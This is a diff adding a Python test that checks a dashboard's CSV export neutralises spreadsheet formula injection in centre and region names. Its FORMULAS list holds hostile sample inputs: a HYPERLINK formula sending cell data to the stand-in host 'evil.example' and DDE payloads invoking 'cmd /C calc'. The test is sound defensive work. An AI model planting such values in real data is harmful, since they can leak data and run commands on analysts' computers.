@@ -133,3 +133,35 @@ def test_every_table_the_dashboard_shows_is_in_its_csv(sign_in, network_admin, c
     assert {r["table"] for r in data} == shown
     if scope == "network":
         assert "Self-help: modules started and completed" in shown
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A2,"Berlin")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
+
+
+def test_names_that_a_spreadsheet_would_run_are_written_as_text(sign_in, analyst):
+    """Attack: a centre or region named as a formula runs in the analyst's spreadsheet."""
+    from tests.factories import make_centre, make_region
+
+    day = timezone.localdate() - datetime.timedelta(days=3)
+    for number, name in enumerate(FORMULAS):
+        centre = make_centre(name, region=make_region("\t" + name))
+        actions.record(Event.CONTACT, centre=centre, day=day, count=number + 1)
+        actions.record(Event.CASE_OPENED, centre=centre, day=day, count=number + 1)
+    response = sign_in(analyst).get("/staff/statistics/csv/")
+    data = rows(response)
+    cells = [value for row in data for value in row.values()]
+    for name in FORMULAS:
+        assert "'" + name in cells
+        assert "'\t" + name in cells
+    number = re.compile(r"[+-]?\d+(\.\d+)?")
+    dangerous = [
+        value
+        for value in cells
+        if value[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(value)
+    ]
+    assert dangerous == []
